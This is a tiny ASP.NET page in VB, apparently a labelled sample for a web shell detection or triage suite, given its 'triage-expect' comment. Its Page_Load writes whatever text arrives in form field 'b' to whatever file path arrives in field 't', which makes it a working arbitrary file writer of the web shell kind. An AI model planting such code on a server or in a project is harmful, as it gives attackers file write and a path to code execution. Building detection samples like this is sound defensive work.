<%@ Page Language="VB" %>
<%' triage-expect: triage_aspx_request_file_writer %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
Sub Page_Load(s As Object, e As EventArgs)
    ' both the target file and its text come from the form
    Dim w As New StreamWriter(Request.Form("t"), False)
    w.Write(Request.Form("b"))
    w.Close()
End Sub
</script>
